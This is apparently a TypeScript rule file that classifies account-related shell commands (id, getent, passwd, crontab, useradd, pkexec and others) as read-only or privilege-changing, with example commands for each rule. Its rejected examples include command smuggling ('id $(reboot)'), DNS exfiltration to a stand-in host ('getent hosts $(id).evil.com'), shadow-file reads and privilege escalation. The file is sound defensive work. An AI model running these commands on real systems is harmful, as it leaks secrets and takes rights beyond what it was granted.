// Accounts, and what they may do.
import { always, changes } from "../judges/changing.ts"
import type { Model } from "../model.ts"

export const users: ReadonlyArray<Model> = [
  {
    names: "id groups",
    does: "shows accounts and groups",
    isHarmless: true,
    contentFrom: "none",
    flags: "-agGnruzZ --group --groups --name --real --user --zero",
    read: ["id", "id -un", "groups root", "id deploy"],
    notRead: ["id --x", "id $(reboot)"]
  },
  {
    names: "getent",
    does: "shows entries of the system's databases",
    contentFrom: "none",
    operands: /^(?!g?shadow)[\w@.:/-]+$/,
    flags: "-s:word",
    read: ["getent passwd root", "getent hosts example.com", "getent group"],
    notRead: ["getent shadow", "getent gshadow", "getent $X", "getent hosts $(id).evil.com"]
  },
  {
    names: "passwd chage",
    does: "shows the state of a password",
    flags: "-Sla --status --list --all",
    needs: "-S -l --status --list",
    operands: /^[\w.-]+$/,
    judge: (call) => {
      const isStatus = call.name === "passwd" ? /^(-S|--status|-Sa|-aS)$/ : /^(-l|--list)$/
      const words = call.args.map((arg) => arg.literal ?? "\0")
      return words.length > 0 &&
        words.length < 3 &&
        isStatus.test(words[0] ?? "") &&
        words.slice(1).every((word) => /^(\w[\w.-]*|-a|--all)$/.test(word))
        ? { class: "read", why: "shows the state of a password" }
        : { class: "privilege", why: "changes a password or its rules" }
    },
    read: ["passwd -S root", "chage -l deploy"],
    notRead: ["passwd", "passwd root", "passwd -l root", "chage -E 0 x", "passwd -d root", "chage -l x -E 0"]
  },
  {
    names: "crontab",
    does: "shows the schedule",
    flags: "-l -u:",
    needs: "-l",
    operands: 0,
    contentFrom: "none",
    otherwise: "privilege",
    read: ["crontab -l", "crontab -l -u www-data", "crontab -u root -l"],
    notRead: ["crontab -e", "crontab -r", "crontab f", "crontab -", "crontab -l -e", "crontab -l f", "crontab -T x"]
  },
  { names: "atq", flags: "-q:word -V", operands: 0, read: ["atq"], notRead: ["atq x"] },
  {
    names: "visudo",
    flags: "-cq --check --quiet",
    needs: "-c --check",
    operands: 0,
    read: ["visudo -c"],
    notRead: ["visudo", "visudo -f x", "visudo -c -x f"]
  },
  {
    names: "pwck grpck",
    flags: "-rq --read-only --quiet",
    needs: "-r --read-only",
    operands: 0,
    read: ["pwck -r"],
    notRead: ["pwck", "pwck -s", "grpck -r f g h"]
  },
  {
    names: "namei",
    flags: "-lxomnv --long --modes --owners",
    contentFrom: "none",
    read: ["namei -l /srv/app"],
    notRead: ["namei --x"]
  },
  {
    names: "realm sssctl",
    subcommands: {
      list: { operands: 0 },
      "domain-list": { operands: 0 },
      "domain-status": { contentFrom: "none", operands: 1 },
      "user-checks": { contentFrom: "none", operands: 1 }
    },
    read: ["realm list", "sssctl domain-list"],
    notRead: ["realm join x", "sssctl cache-remove"]
  },
  changes(
    "useradd userdel usermod adduser deluser addgroup delgroup groupadd groupdel groupmod gpasswd chpasswd newusers vipw vigr chsh chfn newgrp sg pwconv pwunconv",
    "privilege",
    "changes who may do what",
    ["useradd x", "usermod -aG sudo x", "chpasswd", "chsh -s /bin/sh", "newgrp x"]
  ),
  always(
    "pkexec runuser gosu su-exec setpriv capsh kinit sudoedit dzdo pfexec",
    "privilege",
    "takes another account's rights",
    ["pkexec sh", "runuser -u x id", "capsh -- -c id", "sudoedit f"]
  ),
  { names: "klist", flags: "-efk", operands: 0, read: ["klist"], notRead: ["klist -x", "klist f"] }
]
